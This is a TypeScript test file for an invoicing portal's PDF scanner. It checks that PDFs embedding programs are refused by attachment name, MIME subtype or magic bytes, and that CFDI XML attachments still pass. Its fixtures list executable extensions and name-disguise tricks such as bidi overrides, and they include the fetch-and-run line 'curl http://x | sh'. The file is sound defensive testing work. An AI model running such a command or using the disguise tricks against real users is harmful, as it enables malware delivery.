/**
 * Issue 36, item 7: a PDF that carries a program as an embedded file is refused (by the attachment's name, its MIME
 * subtype or its first bytes), while the CFDI XML a PDF/A-3 invoice embeds keeps passing. The files are built here
 * byte by byte (@portal/cfdi/pdf-muestras) with the layouts real tools write: the EmbeddedFiles name tree, a
 * FileAttachment annotation, PDF/A-3's /AF.
 */
import { deflateSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { CFDI_MSG, checkPdf } from "../src/index";
import { PROGRAMA_WINDOWS, pdfConAdjunto } from "../src/pdf/muestras";
import { checkPdfOnServer } from "../src/pdf/node";
import { isExecutableContent } from "../src/pdf/scan";
import { fixtureBytes } from "./helpers";

const server = (bytes: Uint8Array) => checkPdfOnServer("factura.pdf", bytes);
const browser = (bytes: Uint8Array) => checkPdf("factura.pdf", bytes);
const CFDI = fixtureBytes("cfdiutils__cfdi40-real.xml");

/** A ZIP with one stored entry named `name` (local header, central directory, end record). */
function zip(name: string, content: string): Uint8Array {
  const n = Buffer.from(name, "latin1");
  const c = Buffer.from(content, "latin1");
  const local = Buffer.concat([
    Buffer.from([0x50, 0x4b, 3, 4, 20, 0, 0, 0, 0, 0, 0, 0, 0, 0]),
    Buffer.alloc(12),
    Buffer.from([n.length, 0, 0, 0]),
    n,
    c,
  ]);
  local.writeUInt32LE(c.length, 18);
  local.writeUInt32LE(c.length, 22);
  const central = Buffer.concat([
    Buffer.from([0x50, 0x4b, 1, 2, 20, 0, 20, 0]),
    Buffer.alloc(20),
    Buffer.from([n.length, 0]),
    Buffer.alloc(12),
    Buffer.alloc(4),
    n,
  ]);
  const end = Buffer.concat([Buffer.from([0x50, 0x4b, 5, 6]), Buffer.alloc(18)]);
  return new Uint8Array(Buffer.concat([local, central, end]));
}

describe("a PDF with an embedded program is refused", () => {
  it("an .exe attachment (name, content and the EmbeddedFiles tree of a real attachment)", () => {
    const bytes = pdfConAdjunto("factura.exe", PROGRAMA_WINDOWS);
    expect(server(bytes)).toEqual([CFDI_MSG.pdfConEjecutable("factura.exe")]);
    // The name is readable without inflating: the browser says so too.
    expect(browser(bytes)).toEqual([CFDI_MSG.pdfConEjecutable("factura.exe")]);
  });

  it.each([
    "instalar.msi",
    "macro.vbs",
    "run.bat",
    "run.CMD",
    "x.scr",
    "x.com",
    "x.js",
    "x.ps1",
    "app.jar",
    "x.sh",
    "x.dll",
    "hoja.xlsm",
    "x.hta",
    "x.lnk",
  ])("by its name: %s", (name) => {
    expect(server(pdfConAdjunto(name, "contenido cualquiera"))).toEqual([CFDI_MSG.pdfConEjecutable(name)]);
  });

  it("names written to hide the extension: trailing dots and spaces, a path, bidi overrides, UTF-16", () => {
    expect(server(pdfConAdjunto("factura.exe. . ", "x"))).toEqual([CFDI_MSG.pdfConEjecutable("factura.exe. . ")]);
    expect(server(pdfConAdjunto("C:\\facturas\\pago.exe", "x"))).toEqual([
      CFDI_MSG.pdfConEjecutable("C:\\facturas\\pago.exe"),
    ]);
    expect(server(pdfConAdjunto("factura\u202Efdp.exe", "x", { utf16: true }))).toHaveLength(1);
    expect(server(pdfConAdjunto("Recepción.exe", "x", { utf16: true }))).toHaveLength(1);
  });

  it("by its content, whatever its name: MZ, ELF, #!, Mach-O, a ZIP holding a program or a .jar's manifest", () => {
    const programas: [string, Uint8Array | string][] = [
      ["MZ (Windows)", PROGRAMA_WINDOWS],
      ["ELF (Linux)", new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0])],
      ["#! (script)", "#!/bin/sh\ncurl http://x | sh\n"],
      ["Mach-O", new Uint8Array([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1])],
      ["ZIP with an .exe", zip("docs/pago.exe", "MZ")],
      ["ZIP that is a .jar", zip("META-INF/MANIFEST.MF", "Main-Class: X\n")],
    ];
    for (const [label, contenido] of programas) {
      expect([label, server(pdfConAdjunto("datos.txt", contenido))]).toEqual([
        label,
        [CFDI_MSG.pdfConEjecutable("datos.txt")],
      ]);
    }
  });

  it("by the MIME subtype the file specification gives", () => {
    expect(server(pdfConAdjunto("datos", "x", { subtipo: "application#2Fx-msdownload" }))).toEqual([
      CFDI_MSG.pdfConEjecutable("datos"),
    ]);
  });

  it("wherever the attachment is: a FileAttachment annotation, PDF/A-3's /AF", () => {
    for (const lugar of ["anotacion", "af"] as const) {
      expect(server(pdfConAdjunto("pago.exe", PROGRAMA_WINDOWS, { lugar }))).toEqual([
        CFDI_MSG.pdfConEjecutable("pago.exe"),
      ]);
      expect(server(pdfConAdjunto("datos.bin", PROGRAMA_WINDOWS, { lugar }))).toEqual([
        CFDI_MSG.pdfConEjecutable("datos.bin"),
      ]);
    }
  });

  it("the browser sees an uncompressed program's bytes; a compressed one is the server's to find", () => {
    expect(browser(pdfConAdjunto("datos.bin", PROGRAMA_WINDOWS, { sinComprimir: true }))).toEqual([
      CFDI_MSG.pdfConEjecutable("datos.bin"),
    ]);
    expect(browser(pdfConAdjunto("datos.bin", PROGRAMA_WINDOWS))).toEqual([]);
  });
});

describe("attachments that are not programs keep passing", () => {
  it("the CFDI XML of a PDF/A-3 invoice, in each layout, named as PACs name it", () => {
    for (const lugar of ["arbol", "anotacion", "af"] as const) {
      const bytes = pdfConAdjunto("7d3c4c4e-6a0e-4b1f-9f56-0a1c2b3d4e5f.xml", CFDI, { lugar, subtipo: "text#2Fxml" });
      expect(server(bytes)).toEqual([]);
      expect(browser(bytes)).toEqual([]);
    }
  });

  it("other documents (a spreadsheet, a text file, a ZIP of XML)", () => {
    expect(server(pdfConAdjunto("detalle.csv", "Entrada,Importe\n4521,1160.00\n"))).toEqual([]);
    expect(server(pdfConAdjunto("cfdi.zip", zip("factura.xml", "<cfdi:Comprobante/>")))).toEqual([]);
  });

  it("isExecutableContent does not mistake text or a PDF for a program", () => {
    for (const text of ['<?xml version="1.0"?>', "%PDF-1.7", "Mz lowercase", "PK but not a zip"]) {
      expect(isExecutableContent(Buffer.from(text))).toBe(false);
    }
    expect(isExecutableContent(new Uint8Array(deflateSync(PROGRAMA_WINDOWS)))).toBe(false);
  });
});
